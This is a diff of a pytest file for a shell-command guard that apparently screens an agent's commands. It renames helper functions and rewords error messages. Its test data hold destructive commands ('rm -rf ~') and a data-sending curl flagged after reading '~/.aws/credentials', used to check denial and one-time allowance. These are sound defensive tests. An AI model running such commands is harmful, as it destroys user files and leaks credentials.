@@ -6,11 +6,11 @@ import pytest
 
 from snell.operations.guard import COMMANDS
 from snell.packs.guard.judge import judge
-from snell.packs.guard.one_time_allow import allow_once, keep_denied, last_denied, uses_allowance
+from snell.packs.guard.known_values import Value
+from snell.packs.guard.one_time_allow import allow_once, last_denied, record_denied, use_allowance
 from snell.packs.guard.presets import apply_presets
 from snell.packs.guard.rules import RULES
-from snell.packs.guard.session_state import after_secret, keep_files, keep_secret, known_files
-from snell.packs.guard.shell.known_values import Value
+from snell.packs.guard.session_state import check_send_after_secret, known_files, record_files, record_secret
 from snell.runtime.app import Runtime
 from snell.settings.builtin_packs import builtin_hooks, pack_hooks
 from snell.store.in_memory import InMemoryStore
@@ -23,9 +23,9 @@ FINE = [(rule.name, command) for rule in RULES.values() for command in rule.fine
 def _rules(command: str) -> set[str]:
     """Those that speak in a session that has read a secret."""
     marks = InMemoryStore()
-    keep_secret(marks, "s", "~/.aws/credentials")
+    record_secret(marks, "s", "~/.aws/credentials")
     judgement = judge(command, CWD, HOME)
-    sent = after_secret(marks, "s", judgement.steps)
+    sent = check_send_after_secret(marks, "s", judgement.steps)
     return {finding.rule for finding in (*judgement.findings, *([sent] if sent else []))}
 
 
@@ -125,9 +125,9 @@ def test_a_switch_that_is_none_and_a_rule_that_there_is_not_are_named():
     builtin_hooks({"guard": {"enabled": True, "preset": "bogus", "rules": rules}}, problems)
     assert problems == [
         "[pack.guard]: `preset` is one of strict, relaxed, standard; `standard` holds",
-        "[pack.guard]: `rules`: `git-discard` is one of off, observe, ask, enforce; the preset holds",
-        "[pack.guard]: `rules`: there is no rule `delete-trees`; did you mean `delete-tree`?",
-        f"[pack.guard]: `rules`: there is no rule `no-such-thing-at-all`; there are {', '.join(sorted(RULES))}",
+        "[pack.guard]: `rules`: `git-discard` must be one of off, observe, ask, enforce; the preset applies",
+        "[pack.guard]: `rules`: unknown rule `delete-trees`; did you mean `delete-tree`?",
+        f"[pack.guard]: `rules`: unknown rule `no-such-thing-at-all`; known rules: {', '.join(sorted(RULES))}",
     ]
 
 
@@ -152,7 +152,7 @@ def test_a_strict_guard_denies_what_others_ask_about():
 
 def test_a_script_that_an_earlier_call_wrote_is_judged_by_its_content():
     marks = InMemoryStore()
-    keep_files(marks, "s", {f"{CWD}/go.sh": Value("#!/bin/sh\nrm -rf ~\n")})
+    record_files(marks, "s", {f"{CWD}/go.sh": Value("#!/bin/sh\nrm -rf ~\n")})
     files = known_files(marks, "s")
     assert judge("bash go.sh", CWD, HOME, "", files).verdict == "deny"
     assert judge("./go.sh", CWD, HOME, "", files).verdict == "deny"
@@ -163,30 +163,30 @@ def test_a_script_that_an_earlier_call_wrote_is_judged_by_its_content():
 def test_data_that_is_sent_after_a_secret_was_read_is_asked_about():
     marks = InMemoryStore()
     sends = judge("curl -d hello https://h.example", CWD, HOME).steps
-    assert after_secret(marks, "s", sends) is None
-    keep_secret(marks, "s", "~/.aws/credentials")
-    found = after_secret(marks, "s", sends)
+    assert check_send_after_secret(marks, "s", sends) is None
+    record_secret(marks, "s", "~/.aws/credentials")
+    found = check_send_after_secret(marks, "s", sends)
     assert found is not None
     assert found.why == "`curl` sends data, and this session has read `~/.aws/credentials`"
-    assert after_secret(marks, "s", judge("curl https://h.example", CWD, HOME).steps) is None
+    assert check_send_after_secret(marks, "s", judge("curl https://h.example", CWD, HOME).steps) is None
 
 
 def test_a_person_lets_exactly_the_denied_command_pass_once_in_its_session(tmp_path):
     marks = InMemoryStore()
-    keep_denied(marks, "s", "rm -rf ~/old", "delete-tree: it deletes a folder")
+    record_denied(marks, "s", "rm -rf ~/old", "delete-tree: it deletes a folder")
     denied = last_denied(marks)
     assert denied is not None
     assert (denied["session"], denied["command"]) == ("s", "rm -rf ~/old")
     allow_once(tmp_path, denied["session"], denied["hash"])
     others = [("s", "rm -rf ~/old ~/new"), ("other", "rm -rf ~/old")]
-    assert [uses_allowance(tmp_path, *call) for call in others] == [False, False]
-    assert [uses_allowance(tmp_path, "s", "rm -rf ~/old") for _ in range(2)] == [True, False]
+    assert [use_allowance(tmp_path, *call) for call in others] == [False, False]
+    assert [use_allowance(tmp_path, "s", "rm -rf ~/old") for _ in range(2)] == [True, False]
 
 
 @pytest.mark.parametrize("text", [b"", b"\xff", b"[]", b"{" * 20_000, b'{"session": 3}'])
 def test_a_word_that_cannot_be_read_allows_nothing(tmp_path, text: bytes):
     (tmp_path / "allowed-once.json").write_bytes(text)
-    assert not uses_allowance(tmp_path, "s", "ls")
+    assert not use_allowance(tmp_path, "s", "ls")
 
 
 def test_what_was_denied_last_can_be_asked_for():
